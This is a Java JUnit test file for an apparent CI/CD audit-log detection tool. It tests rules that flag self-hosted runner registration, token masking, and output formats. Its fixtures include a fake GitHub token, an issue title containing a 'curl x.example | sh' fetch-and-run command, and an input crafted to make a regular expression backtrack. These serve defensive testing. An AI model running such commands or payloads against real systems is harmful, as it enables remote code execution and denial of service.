package dev.cimatrix.cli;

import dev.cimatrix.report.Json;
import dev.cimatrix.testing.CliRun;
import dev.cimatrix.testing.SarifSchema;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** The detect and rules commands end to end, with user rules only (the built-in pack has its own tests). */
class DetectCommandTest {
    private static final String RUNNER_RULE = """
            title: Self-hosted runner registered
            id: test-runner
            level: high
            tags: [cicd.t105, cicd.pers, attack.persistence]
            control: CICD-D001
            logsource: {product: github, service: audit}
            detection:
              selection: {action|endswith: register_self_hosted_runner}
              condition: selection
            """;
    private static final String NEW_UA_RULE = """
            title: Token used with a new user agent
            id: test-new-ua
            level: low
            logsource: {product: github, service: audit}
            detection:
              selection: {hashed_token|exists: true}
              condition: selection
            cimatrix:
              firstSeen: {key: [hashed_token], value: [user_agent]}
            """;
    private static final String TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";

    @TempDir
    Path dir;
    Path rules;
    Path log;

    @BeforeEach
    void files() throws IOException {
        rules = Files.createDirectories(dir.resolve("rules"));
        Files.writeString(rules.resolve("runner.yml"), RUNNER_RULE);
        Files.writeString(rules.resolve("ua.yml"), NEW_UA_RULE);
        log = Files.writeString(dir.resolve("audit.jsonl"), String.join("\n",
                "{\"action\":\"repo.create\",\"actor\":\"alice\",\"@timestamp\":1767261600000}",
                "{\"action\":\"org.register_self_hosted_runner\",\"actor\":\"mallory\",\"org\":\"acme\","
                        + "\"note\":\"" + TOKEN + "\",\"@timestamp\":1767261660000}",
                "not json at all",
                "") );
    }

    private CliRun detect(String... extra) {
        String[] base = {"detect", "--no-builtin-rules", "--rules", rules.toString(), "--state",
                dir.resolve("state.db").toString()};
        String[] args = new String[base.length + extra.length];
        System.arraycopy(base, 0, args, 0, base.length);
        System.arraycopy(extra, 0, args, base.length, extra.length);
        return CliRun.of(args);
    }

    @Test
    void jsonNamesRuleCellsEventsWithFileAndLineMatchedFieldsAndGroup() {
        CliRun run = detect("--format", "json", log.toString());
        assertThat(run.exitCode()).as(run.err()).isEqualTo(ExitCode.OK);
        JsonNode root = Json.mapper().readTree(run.out());
        JsonNode alert = root.get("alerts").get(0);
        assertThat(alert.get("rule").asString()).isEqualTo("test-runner");
        assertThat(alert.get("cells").get(0).asString()).isEqualTo("PERS/CICD-T105");
        assertThat(alert.get("severity").asString()).isEqualTo("high");
        assertThat(alert.get("control").asString()).isEqualTo("CICD-D001");
        assertThat(alert.get("group").get("actor").asString()).isEqualTo("mallory");
        assertThat(alert.get("matched").get("action").get(0).asString()).isEqualTo("org.register_self_hosted_runner");
        JsonNode event = alert.get("events").get(0);
        assertThat(event.get("file").asString()).isEqualTo(log.toString());
        assertThat(event.get("line").asInt()).isEqualTo(2);
        assertThat(event.get("event").get("actor").asString()).isEqualTo("mallory");
        assertThat(event.get("event").get("note").asString()).startsWith("ghp_").doesNotContain(TOKEN);
        assertThat(root.get("stats").get("events").asInt()).isEqualTo(2);
        assertThat(root.get("stats").get("problems").get(0).get("line").asInt()).isEqualTo(3);
        assertThat(run.err()).contains(log + ":3: parse error");
    }

    @Test
    void alertsPastTheLimitAreCountedInEveryFormat() throws IOException {
        StringBuilder flood = new StringBuilder();
        for (int i = 0; i < 5; i++) {
            flood.append("{\"action\":\"org.register_self_hosted_runner\",\"actor\":\"m").append(i)
                    .append("\",\"@timestamp\":").append(1767261600000L + i).append("}\n");
        }
        Path log = Files.writeString(dir.resolve("flood.jsonl"), flood);
        CliRun json = detect("--format", "json", "--alert-limit", "2", log.toString());
        assertThat(json.exitCode()).as(json.err()).isEqualTo(ExitCode.OK);
        assertThat(json.err()).contains("cimatrix detect: rule test-runner (Self-hosted runner registered) raised 3 more alerts than --alert-limit 2; "
                + "they are counted, not listed");
        JsonNode root = Json.mapper().readTree(json.out());
        assertThat(root.get("alerts")).hasSize(2);
        assertThat(root.at("/stats/alertsNotListed/test-runner").asInt()).isEqualTo(3);
        assertThat(detect("--alert-limit", "2", log.toString()).out())
                .contains("2 alerts (2 high); 5 events from 1 file (5 github-audit); 3 more alerts counted, not listed");
        JsonNode sarif = Json.mapper().readTree(detect("--format", "sarif", "--alert-limit", "2", log.toString()).out());
        assertThat(sarif.at("/runs/0/invocations/0/toolExecutionNotifications/0/associatedRule/id").asString())
                .isEqualTo("test-runner");
        SarifSchema.ifPresent().ifPresent(schema -> assertThat(schema.validate(sarif)).isEmpty());
        assertThat(detect("--format", "json", log.toString()).err()).doesNotContain("alert-limit");
        CliRun negative = detect("--alert-limit", "-1", log.toString());
        assertThat(negative.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(negative.err()).contains("--alert-limit");
    }

    @Test
    void aNewestFirstExportIsSaidToBeReadOldestFirstInEveryFormat() throws IOException {
        Path export = Files.writeString(dir.resolve("export.json"), "[\n"
                + "{\"action\":\"org.register_self_hosted_runner\",\"actor\":\"mallory\",\"@timestamp\":1767261660000},\n"
                + "{\"action\":\"repo.create\",\"actor\":\"alice\",\"@timestamp\":1767261600000}\n]\n");
        CliRun json = detect("--format", "json", export.toString());
        assertThat(json.exitCode()).as(json.err()).isEqualTo(ExitCode.OK);
        assertThat(json.err()).isEqualTo("cimatrix detect: " + export + ": its events run newest first; they were "
                + "read oldest first" + System.lineSeparator());
        JsonNode root = Json.mapper().readTree(json.out());
        assertThat(root.at("/stats/readOldestFirst/0").asString()).isEqualTo(export.toString());
        assertThat(root.at("/alerts/0/events/0/line").asInt()).isEqualTo(2);
        JsonNode sarif = Json.mapper().readTree(detect("--format", "sarif", export.toString()).out());
        SarifSchema.ifPresent().ifPresent(schema -> assertThat(schema.validate(sarif)).isEmpty());
        JsonNode notification = sarif.at("/runs/0/invocations/0/toolExecutionNotifications/0");
        assertThat(notification.get("level").asString()).isEqualTo("note");
        assertThat(notification.at("/locations/0/physicalLocation/artifactLocation/uri").asString())
                .isEqualTo(export.toString());
        assertThat(detect("--format", "json", log.toString()).err()).doesNotContain("newest first");
    }

    /**
     * `cimatrix detect` loads the built-in pack on another thread from its start (Main.main): the run must be
     * the one it would be with the pack loaded in place, user rules after it, and a second run loads it anew.
     */
    @Test
    void theBuiltInPackLoadedAheadGivesTheSameRun() throws IOException {
        String[] args = {"detect", "--rules", rules.toString(), "--format", "json", "--state", "", log.toString()};
        args[6] = dir.resolve("inline.db").toString();
        CliRun inline = CliRun.of(args);
        RuleSources.preloadBuiltin();
        args[6] = dir.resolve("ahead.db").toString();
        CliRun ahead = CliRun.of(args);
        args[6] = dir.resolve("again.db").toString();
        CliRun again = CliRun.of(args);
        assertThat(inline.exitCode()).as(inline.err()).isEqualTo(ExitCode.OK);
        JsonNode alerts = Json.mapper().readTree(inline.out()).get("alerts");
        assertThat(alerts).extracting(a -> a.get("rule").asString()).contains("test-runner");
        for (CliRun run : new CliRun[] {ahead, again}) {
            assertThat(run.exitCode()).as(run.err()).isEqualTo(ExitCode.OK);
            assertThat(run.err()).isEqualTo(inline.err());
            assertThat(Json.mapper().readTree(run.out()).get("alerts")).isEqualTo(alerts);
        }
        assertThat(Files.exists(dir.resolve("ahead.db"))).isTrue();
    }

    @Test
    void jsonIsStreamedInTheSameLayoutAsEveryOtherJsonOutput() {
        String out = detect("--format", "json", log.toString()).out();
        assertThat(out).isEqualTo(Json.pretty(Json.mapper().readTree(out)));
    }

    @Test
    void textMasksTokensAndSummarises() {
        CliRun run = detect(log.toString());
        assertThat(run.out()).contains("HIGH  Self-hosted runner registered  [test-runner]")
                .contains("at " + log + ":2").contains("1 alert (1 high); 2 events from 1 file")
                .doesNotContain(TOKEN);
    }

    /** A log whose events carry no time gives alerts without one, not alerts from 1970. */
    @Test
    void alertsOfEventsWithoutATimeHaveNone() throws IOException {
        Path timeless = Files.writeString(dir.resolve("timeless.jsonl"),
                "{\"action\":\"org.register_self_hosted_runner\",\"actor\":\"mallory\",\"org\":\"acme\"}\n");
        CliRun text = detect(timeless.toString());
        assertThat(text.out()).as(text.err()).contains("HIGH  Self-hosted runner registered").contains("  1 event\n")
                .doesNotContain("1970-01-01");
        JsonNode alert = Json.mapper().readTree(detect("--format", "json", timeless.toString()).out())
                .get("alerts").get(0);
        assertThat(alert.get("firstTime").isNull()).isTrue();
        assertThat(alert.get("lastTime").isNull()).isTrue();
    }

    @Test
    void failOnSetsTheExitCode() {
        assertThat(detect("--fail-on", "high", log.toString()).exitCode()).isEqualTo(ExitCode.FINDINGS);
        assertThat(detect("--fail-on", "critical", log.toString()).exitCode()).isEqualTo(ExitCode.OK);
    }

    @Test
    void unreadableInputIsExitCodeTwoAfterReadingTheRest() {
        CliRun run = detect(dir.resolve("missing.jsonl").toString(), log.toString());
        assertThat(run.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(run.out()).contains("test-runner");
        assertThat(run.err()).contains("missing.jsonl: unreadable");
    }

    @Test
    void sarifHasResultsAtTheEventLineAndProblemsAsNotifications() {
        JsonNode sarif = Json.mapper().readTree(detect("--format", "sarif", log.toString()).out());
        JsonNode run = sarif.get("runs").get(0);
        JsonNode result = run.get("results").get(0);
        assertThat(result.get("ruleId").asString()).isEqualTo("test-runner");
        assertThat(result.get("level").asString()).isEqualTo("error");
        assertThat(result.at("/locations/0/physicalLocation/region/startLine").asInt()).isEqualTo(2);
        assertThat(run.at("/invocations/0/toolExecutionNotifications/0/locations/0/physicalLocation/region/startLine")
                .asInt()).isEqualTo(3);
    }

    @Test
    void stateFileCarriesBaselinesIntoTheNextRun() throws IOException {
        Path uses = Files.writeString(dir.resolve("uses.jsonl"),
                "{\"action\":\"git.clone\",\"actor\":\"ci\",\"hashed_token\":\"h1\",\"user_agent\":\"git/2.40\"}\n");
        assertThat(detect("--format", "json", uses.toString()).out()).contains("test-new-ua");
        assertThat(detect("--format", "json", uses.toString()).out()).doesNotContain("test-new-ua");
    }

    @Test
    void badUsageIsExitCodeTwo() {
        assertThat(detect("--source", "syslog", log.toString()).exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(detect("--follow", "--format", "sarif", log.toString()).exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(CliRun.of("detect", "--rules", dir.resolve("nope").toString(), log.toString()).exitCode())
                .isEqualTo(ExitCode.USAGE);
    }

    /** A number out of range is named with its option and value; one that is not a number says so plainly. */
    @Test
    void aBadNumberNamesItsOption() {
        String[][] cases = {
                {"--learn", "-1", "--learn must be at least 0, not -1"},
                {"--dedup-window", "-5", "--dedup-window must be at least 0, not -5"},
                {"--dedup-window", "9223372036854775807", "--dedup-window must be at most 527040 minutes (a year)"},
                {"--max-event-bytes", "100", "--max-event-bytes must be at least 1024, not 100"},
                {"--dedup-window", "1x", "'1x' is not a whole number"},
                {"--learn", "99999999999", "'99999999999' is not a whole number"},
        };
        for (String[] c : cases) {
            CliRun run = detect(c[0], c[1], log.toString());
            assertThat(run.exitCode()).as(c[0] + " " + c[1]).isEqualTo(ExitCode.USAGE);
            assertThat(run.err()).as(c[0] + " " + c[1]).contains(c[2]).doesNotContain("long", " int");
        }
    }

    /**
     * A folder is read file by file in path order, as CloudTrail's dated folders need, without hidden files and
     * without CloudTrail's digests; a gzip file in it is read like any other.
     */
    @Test
    void aFolderIsReadInPathOrder() throws IOException {
        Path trail = Files.createDirectories(dir.resolve("AWSLogs/111122223333/CloudTrail/eu-west-1/2026/01/02"));
        Path earlier = Files.createDirectories(dir.resolve("AWSLogs/111122223333/CloudTrail/eu-west-1/2026/01/01"));
        String runner = "{\"action\":\"org.register_self_hosted_runner\",\"actor\":\"%s\",\"@timestamp\":%d}\n";
        Files.writeString(trail.resolve("b.jsonl"), runner.formatted("second", 1767261660000L));
        try (var gz = new java.util.zip.GZIPOutputStream(Files.newOutputStream(earlier.resolve("a.json.gz")))) {
            gz.write(runner.formatted("first", 1767261600000L).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
        Files.writeString(earlier.resolve(".hidden.jsonl"), "not json\n");
        Path digest = Files.createDirectories(dir.resolve("AWSLogs/111122223333/CloudTrail-Digest/eu-west-1"));
        Files.writeString(digest.resolve("digest.json"), "{\"digestStartTime\":\"2026-01-01T00:00:00Z\"}\n");

        CliRun run = detect("--format", "json", "--dedup-window", "0", dir.resolve("AWSLogs").toString());
        assertThat(run.exitCode()).as(run.err()).isEqualTo(ExitCode.OK);
        JsonNode root = Json.mapper().readTree(run.out());
        assertThat(root.at("/stats/files").asInt()).isEqualTo(2);
        assertThat(root.at("/stats/problems")).isEmpty();
        assertThat(root.get("alerts")).extracting(a -> a.at("/events/0/file").asString()).containsExactly(
                earlier.resolve("a.json.gz").toString(), trail.resolve("b.jsonl").toString());

        // Other files in a folder of logs are skipped with one note each; named, such a file is read as a log.
        Path readme = Files.writeString(trail.resolve("README.md"), "# Trail\n\nSynced nightly.\n");
        try (var gz = new java.util.zip.GZIPOutputStream(Files.newOutputStream(trail.resolve("manifest.csv.gz")))) {
            gz.write("key,size\na.json.gz,120\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        }
        CliRun mixed = detect("--format", "json", "--dedup-window", "0", dir.resolve("AWSLogs").toString());
        assertThat(mixed.exitCode()).as(mixed.err()).isEqualTo(ExitCode.OK);
        JsonNode mixedRoot = Json.mapper().readTree(mixed.out());
        assertThat(mixedRoot.get("alerts")).hasSize(2);
        assertThat(mixedRoot.at("/stats/problems")).extracting(pr -> pr.get("file").asString() + ": "
                + pr.get("message").asString()).containsExactly(
                readme + ": not a JSON log (it starts with '#'); skipped",
                trail.resolve("manifest.csv.gz") + ": not a JSON log (it starts with 'k'); skipped");
        assertThat(detect(readme.toString()).err()).contains(readme + ":1: parse error", readme + ":3: parse error");

        // A link to a log in the folder is read as the log.
        Path kept = Files.writeString(dir.resolve("kept.jsonl"), runner.formatted("third", 1767261720000L));
        Files.createSymbolicLink(trail.resolve("c.jsonl"), kept);
        CliRun linked = detect("--format", "json", "--dedup-window", "0", dir.resolve("AWSLogs").toString());
        assertThat(Json.mapper().readTree(linked.out()).get("alerts")).hasSize(3);

        Path empty = Files.createDirectories(dir.resolve("empty/.git"));
        CliRun none = detect(empty.getParent().toString());
        assertThat(none.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(none.err()).contains("is a folder with no log files in it");
        assertThat(detect("--follow", dir.toString()).err()).contains("--follow reads one growing file");
    }

    /** A UTF-16 log is read as its text; followed, its growth could not be seen, so following it is refused. */
    @Test
    void aUtf16LogIsReadButNotFollowed() throws IOException {
        String line = "{\"action\":\"repo.create\",\"actor\":\"ünïcode\",\"@timestamp\":1767261600000}\n";
        Path wide = dir.resolve("wide.jsonl");
        Files.write(wide, ("\uFEFF" + line + line).getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
        CliRun read = detect(wide.toString());
        assertThat(read.exitCode()).as(read.err()).isZero();
        assertThat(read.out()).contains("2 events from 1 file");
        assertThat(read.err()).doesNotContain("parse error");

        CliRun followed = detect("--follow", wide.toString());
        assertThat(followed.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(followed.err()).contains("--follow reads UTF-8 JSON Lines; this file is UTF-16");
    }

    @Test
    void forcedSourceAppliesToEveryEvent() throws IOException {
        Path odd = Files.writeString(dir.resolve("odd.jsonl"), "{\"action\":\"repo.register_self_hosted_runner\"}\n"
                + "{\"something\":\"else\"}\n");
        JsonNode root = Json.mapper().readTree(detect("--format", "json", "--source", "github-audit", odd.toString())
                .out());
        assertThat(root.at("/stats/events").asInt()).isEqualTo(2);
        assertThat(root.at("/stats/problemCounts/unknown_shape").asInt()).isZero();
    }

    @Test
    void tagsAndControlsTheCatalogLacksAreWarnedAboutAndTheRuleStillRuns() throws IOException {
        Path own = Files.createDirectories(dir.resolve("own-rules"));
        Files.writeString(own.resolve("typo.yml"), """
                title: Runner registered
                id: typo-rule
                logsource:
                    product: github
                    service: audit
                tags: [cicd.t105, cicd.t999, cicd.persistence, attack.persistence]
                control: CICD-D999
                detection:
                    selection:
                        action|endswith: register_self_hosted_runner
                    condition: selection
                level: high
                """);
        CliRun list = CliRun.of("rules", "list", "--no-builtin-rules", "--rules", own.toString());
        assertThat(list.exitCode()).isZero();
        assertThat(list.err())
                .contains("warning: " + own.resolve("typo.yml") + ":1: tag cicd.t999 names no technique of the matrix")
                .contains("tag cicd.persistence is neither a technique (cicd.tNNN) nor a tactic (cicd.recon, ")
                .contains("control CICD-D999 is not in the catalog")
                .doesNotContain("cicd.t105").doesNotContain("attack.persistence");
        Path log = Files.writeString(dir.resolve("runner.jsonl"),
                "{\"action\":\"repo.register_self_hosted_runner\",\"actor\":\"mallory\",\"repo\":\"acme/api\"}\n");
        CliRun run = CliRun.of("detect", "--no-builtin-rules", "--rules", own.toString(), "--state",
                dir.resolve("state.db").toString(), "--format", "json", log.toString());
        assertThat(run.err()).contains("cimatrix detect: warning: ").contains("cicd.t999");
        assertThat(Json.mapper().readTree(run.out()).at("/alerts/0/cells/0").asString()).isEqualTo("PERS/CICD-T105");
        assertThat(CliRun.of("rules", "list").err()).as("the built-in pack").doesNotContain("warning");
    }

    @Test
    void rulesListShowAndExport() throws IOException {
        CliRun list = CliRun.of("rules", "list", "--no-builtin-rules", "--rules", rules.toString());
        assertThat(list.out()).contains("test-runner").contains("PERS/CICD-T105").contains("2 rules");
        CliRun show = CliRun.of("rules", "show", "test-runner", "--no-builtin-rules", "--rules", rules.toString());
        assertThat(show.out()).contains("control: CICD-D001").contains("action|endswith: register_self_hosted_runner");
        Path out = dir.resolve("export");
        CliRun export = CliRun.of("rules", "export", "--format", "sigma", "--output", out.toString(),
                "--no-builtin-rules", "--rules", rules.toString());
        assertThat(export.exitCode()).as(export.err()).isZero();
        assertThat(Files.readString(out.resolve("runner.yml"))).isEqualTo(RUNNER_RULE);
        assertThat(Files.readString(out.resolve("ua.yml"))).startsWith("# cimatrix baseline rule");
        assertThat(CliRun.of("rules", "show", "nope", "--no-builtin-rules").exitCode()).isEqualTo(ExitCode.USAGE);
        CliRun typo = CliRun.of("rules", "show", "test-runer", "--no-builtin-rules", "--rules", rules.toString());
        assertThat(typo.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(typo.err()).contains("no rule with id, name or file 'test-runer' (did you mean test-runner");
        CliRun byFile = CliRun.of("rules", "show", rules.resolve("runner.yml").toString(), "--no-builtin-rules",
                "--rules", rules.toString());
        assertThat(byFile.out()).startsWith("Self-hosted runner registered  [test-runner]");
        CliRun builtin = CliRun.of("rules", "show", "github-audit/webhook_deleted");
        assertThat(builtin.out()).startsWith("GitHub webhook deleted  [").contains("defined at builtin:github-audit/");
        assertThat(CliRun.of("rules", "show", "k8s-audit/secret_read_burst.yml").out().split("defined at", -1))
                .as("a file shows each of its rules").hasSize(3);
    }

    /**
     * An export lays user rules out as their --rules folder does: two files of one name in different subfolders
     * stay two files, where they were once written as one.
     */
    @Test
    void exportKeepsTheLayoutOfTheRulesFolder() throws IOException {
        Path tree = dir.resolve("tree");
        Files.createDirectories(tree.resolve("github"));
        Files.createDirectories(tree.resolve("cloud"));
        Files.writeString(tree.resolve("github/rule.yml"), RUNNER_RULE);
        Files.writeString(tree.resolve("cloud/rule.yml"), RUNNER_RULE.replace("test-runner", "other-runner"));
        Path out = dir.resolve("export");
        CliRun export = CliRun.of("rules", "export", "--output", out.toString(), "--no-builtin-rules",
                "--rules", tree.toString());
        assertThat(export.exitCode()).as(export.err()).isZero();
        assertThat(export.out()).isEqualTo("wrote 2 rule files to " + out + "\n");
        assertThat(Files.readString(out.resolve("github/rule.yml"))).isEqualTo(RUNNER_RULE);
        assertThat(Files.readString(out.resolve("cloud/rule.yml"))).contains("other-runner").doesNotContain("---");
    }

    /**
     * An issue body crafted to make a rule's regular expression backtrack (a megabyte of {@code $(} without a closing
     * parenthesis) costs at most the match's step budget: the run ends in seconds, the event is reported as one the
     * expression gave up on, and the next event is still matched.
     */
    @Test
    @org.junit.jupiter.api.Timeout(value = 60, unit = java.util.concurrent.TimeUnit.SECONDS,
            threadMode = org.junit.jupiter.api.Timeout.ThreadMode.SEPARATE_THREAD)
    void aValueCraftedToMakeARegularExpressionBacktrackIsGivenUpOn() throws IOException {
        String crafted = "{\"action\":\"opened\",\"issue\":{\"number\":1,\"title\":\"Question\",\"body\":\""
                + "$(".repeat(400_000) + "\"},\"repository\":{\"full_name\":\"o/r\"},\"sender\":{\"login\":\"x\"}}";
        String plain = "{\"action\":\"opened\",\"issue\":{\"number\":2,\"title\":\"Run `curl x.example | sh`\","
                + "\"body\":\"hi\"},\"repository\":{\"full_name\":\"o/r\"},\"sender\":{\"login\":\"y\"}}";
        Path webhooks = Files.writeString(dir.resolve("webhooks.jsonl"), crafted + "\n" + plain + "\n");
        long started = System.nanoTime();
        CliRun run = CliRun.of("detect", "--state", dir.resolve("state.db").toString(), "--format", "json",
                "--source", "github-webhook", webhooks.toString());
        long seconds = (System.nanoTime() - started) / 1_000_000_000L;
        assertThat(run.exitCode()).as(run.err()).isIn(ExitCode.OK, ExitCode.FINDINGS);
        assertThat(seconds).as("seconds for two events").isLessThan(30);
        JsonNode root = Json.mapper().readTree(run.out());
        assertThat(root.at("/stats/problemCounts/match_gave_up").asInt()).isEqualTo(1);
        assertThat(root.at("/stats/problems/0/line").asInt()).isEqualTo(1);
        assertThat(root.get("alerts")).extracting(a -> a.at("/events/0/line").asInt()).contains(2);
    }
}
